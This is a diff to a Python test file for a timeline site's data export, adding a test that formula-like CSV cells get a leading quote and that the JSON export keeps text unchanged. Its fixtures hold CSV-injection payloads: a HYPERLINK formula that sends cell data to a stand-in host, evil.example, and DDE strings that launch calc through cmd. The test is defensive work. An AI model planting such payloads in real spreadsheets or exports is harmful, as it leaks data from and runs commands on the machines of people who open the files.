@@ -3,16 +3,22 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import datetime as dt
+import hashlib
+import io
 import json
+import re
 from pathlib import Path
 
 import feedparser
 import icalendar
 from jsonschema import Draft202012Validator
 
-from conftest import REPO, SITE_URL
+from conftest import REPO, SITE_URL, make_project
+from timeline.export import events_csv, events_json
 from timeline.project import validate
+from timeline.site import SiteInfo
 
 DATA = validate(REPO).dataset
 IDS = [e.id for e in DATA.events]
@@ -75,3 +81,90 @@ def test_feeds_and_data_are_announced_in_every_page_head_and_linked(built_site: 
     data_page = (built_site / "open-data" / "index.html").read_text()
     for href in ("../data/events.json", "../data/events.csv", "../feed.xml", "../events.ics"):
         assert f'href="{href}"' in data_page
+
+
+# What spreadsheets read as the start of a formula (OWASP, CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_QUOTE = "@SUM(1+1)*cmd|' /C calc'!A0 was typed into the form"
+FORMULA_PUBLISHER = '=HYPERLINK("https://evil.example/?"&A1,"Daily Tribune")'
+FORMULA_EVENTS = {  # id: (title, summary, date_basis)
+    "formula-a": (
+        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+    ),
+    "formula-b": ("@SUM(1+1)", "@SUM(2+2) in a summary", "@SUM(3+3)"),
+}
+# The validator need not refuse a leading tab or carriage return: the export must not rely on it.
+CONTROL_STARTS = {"formula-b": {"title": "\t=1+1", "summary": "\r=2+2 in a summary"}}
+
+
+def formula_dataset(root: Path):
+    """The fixture project plus two events whose every text starts like a formula; the
+    source's publisher and a quote do too."""
+    make_project(root)
+    archive = root / "sources" / "tribune.txt"
+    archive.write_bytes(archive.read_bytes() + f"\n{FORMULA_QUOTE}.\n".encode())
+    digest = hashlib.sha256(archive.read_bytes()).hexdigest()
+    source = root / "sources" / "tribune.yml"
+    text = source.read_text(encoding="utf-8")
+    text = text.replace("publisher: Daily Tribune", f"publisher: {json.dumps(FORMULA_PUBLISHER)}")
+    text = re.sub(r"(?m)^archive_sha256: .*$", f"archive_sha256: {digest}", text)  # the archive changed
+    source.write_text(text, encoding="utf-8")
+    for event_id, (title, summary, basis) in FORMULA_EVENTS.items():
+        (root / "events" / f"{event_id}.yml").write_text(
+            "# yaml-language-server: $schema=../schemas/event.schema.json\n"
+            f'id: {event_id}\ntitle: {json.dumps(title)}\ndate: "2023-12"\n'
+            f"date_basis: {json.dumps(basis)}\nsummary: {json.dumps(summary)}\n"
+            "topics: [crackdown]\nentities: [cctv]\n"
+            f"citations:\n  - source: tribune\n    quote: {json.dumps(FORMULA_QUOTE)}\n",
+            encoding="utf-8",
+        )
+    result = validate(root)
+    assert result.dataset is not None, result.problems
+    data = result.dataset
+    events = tuple(dataclasses.replace(e, **CONTROL_STARTS.get(e.id, {})) for e in data.events)
+    return dataclasses.replace(data, events=events)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(tmp_path: Path):
+    data = formula_dataset(tmp_path / "project")
+    site = SiteInfo(site_url=SITE_URL)
+    text = events_csv(data, site)
+    assert len(list(csv.reader(io.StringIO(text, newline="")))) == len(data.events) + 1
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
+    assert list(rows) == [e.id for e in data.events] and len(rows) == 3
+
+    prefixed = set()
+    for event in data.events:
+        row = rows[event.id]
+        for column in ("title", "summary", "date_basis"):
+            raw = getattr(event, column)
+            if event.id in FORMULA_EVENTS:
+                assert raw.startswith(FORMULA_STARTS)
+                assert row[column] == "'" + raw, (event.id, column)
+                prefixed.add(raw[0])
+            else:
+                assert row[column] == raw, (event.id, column)
+        ordinary = {
+            "id": event.id,
+            "date": event.date.text,
+            "topics": ";".join(event.topics),
+            "entities": ";".join(event.entities),
+            "sources": ";".join(event.sources),
+            "permalink": site.permalink(event.id),
+        }
+        assert {c: row[c] for c in ordinary} == ordinary
+        assert not any(row[c].startswith("'") for c in row if c not in ("title", "summary", "date_basis"))
+        # Quotes and publishers sit inside the citations' JSON, a cell that starts with "[":
+        # they keep their exact text there.
+        assert row["citations"].startswith("[")
+        citations = json.loads(row["citations"])
+        assert [c["quote"] for c in citations] == [c.quote for c in event.citations]
+        assert {c["publisher"] for c in citations} == {FORMULA_PUBLISHER}
+    assert prefixed == set(FORMULA_STARTS)
+    assert FORMULA_QUOTE in text
+
+    # Only the CSV is meant for spreadsheets: the JSON keeps every text as it is.
+    titles = {e["id"]: e["title"] for e in json.loads(events_json(data, site))["events"]}
+    assert titles == {e.id: e.title for e in data.events}
